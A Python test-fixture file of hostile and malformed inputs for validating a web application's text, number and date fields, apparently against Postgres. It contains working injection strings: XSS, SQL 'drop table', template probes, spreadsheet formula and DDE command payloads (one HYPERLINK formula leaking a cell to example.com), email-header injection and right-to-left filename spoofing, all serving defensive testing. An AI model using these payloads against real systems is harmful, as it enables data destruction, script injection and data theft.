"""What an attacker types: texts, numbers, days and documents that are wrong, huge, or not what they look like."""

from __future__ import annotations

# what may stand in a note and must come back as it was; what a name may say about it is ONE_LINE's business
TEXTS = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)",
    "sql": "'; drop table customers; --",
    "template": "{{7*7}} ${7*7} %s %(name)s {0}",
    "formula": '=HYPERLINK("http://example.com?x="&A1,"x")',
    "command": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "family": "👩‍👩‍👧‍👦🏳️‍🌈",
    "astral": "𐍈𝕶𝖔𝖓𝖙𝖔𝖗",
    "zalgo": "Z" + "̴̡̛͝" * 30 + "a",
    "mixed": "שלום Åke عليكم",
    "marks": "a\u200fb\u200ec",
    "joined": "a\u200bb\ufeffc",
    "private": "\ue000\uffff\U0010ffff",
    "backslash": "\\u0000 \\x00 \\",
    "quotes": "\"'`´’",
    "comma": 'a,b;"c"',
}
# what no name is: lines, terminal codes, and marks that turn the words around it
CONTROLS = {
    "line": "Åke\nBcc: everybody@example.com",
    "carriage": "Åke\r\nX-Forged: yes",
    "tab": "Åke\tBygg",
    "escape": "\x1b[2J\x1b]0;x\x07Åke",
    "delete": "Åke\x7f",
    "next line": "Åke\x85x",
    "line separator": "Åke\u2028x\u2029y",
    "override": "invoice\u202egpj.exe",
    "embedding": "\u202aÅke\u202b \u202dx\u202c",
    "isolate": "\u2066Åke\u2067 \u2068x\u2069",
}
# names that nobody sees
INVISIBLE = {
    "blanks": "   ",
    "no-break": "\u00a0\u2003\u3000",
    "zero width": "\u200b\u200c\u200d\u2060\ufeff",
    "fillers": "\u3164\u115f\u1160\uffa0\u2800",
    "marks": "\u200e\u200f\u061c\u00ad\u180e\u034f",
}
# never stored: Postgres has no such text
IMPOSSIBLE = {
    "nul": b'"a\\u0000b"',
    "high surrogate": b'"a\\ud800b"',
    "low surrogate": b'"\\udc00"',
    "not utf-8": b'"\xff\xfe\x80"',
    "overlong": b'"\xc0\xaf"',
    "surrogate in utf-8": b'"\xed\xa0\x80"',
}
WRONG_TYPES = {
    "number": b"1",
    "true": b"true",
    "object": b'{"a": {"$gt": ""}}',
    "array": b'["a", "b"]',
    "deep": b'"' + b"[" * 3000 + b'"',
}
NUMBERS = {
    "overflow": b"1e400",
    "tiny": b"1e-400",
    "nan": b'"NaN"',
    "infinity": b'"Infinity"',
    "minus infinity": b'"-Infinity"',
    "negative zero": b"-0",
    "negative zero float": b"-0.0",
    "forty digits": b'"1234567890123456789012345678901234567890"',
    "forty decimals": b'"0.1234567890123456789012345678901234567890"',
    "int4": b"2147483648",
    "int8": b"9223372036854775808",
    "negative int8": b"-9223372036854775809",
    "hex": b'"0x7f"',
    "underscores": b'"1_000"',
    "comma": b'"1,5"',
    "arabic digits": '"١٢"'.encode(),
    "exponent": b'"1e5"',
    "blank": b'""',
    "words": b'"1; drop table customers"',
}
DAYS = {
    "first": b'"0001-01-01"',
    "last": b'"9999-12-31"',
    "infinity": b'"infinity"',
    "minus infinity": b'"-infinity"',
    "before christ": b'"0044-03-15 BC"',
    "february 30": b'"2026-02-30"',
    "month 13": b'"2026-13-01"',
    "year 0": b'"0000-01-01"',
    "beyond": b'"5874898-01-01"',
    "now": b'"now"',
    "epoch": b'"epoch"',
    "number": b"20260101",
    "leap second": b'"2026-06-30T23:59:60Z"',
    "zone": b'"2026-01-01T00:00:00+99:99"',
    "blank": b'""',
}


def deep(levels: int) -> bytes:
    """An array within an array, so many levels down."""
    return b"[" * levels + b"]" * levels
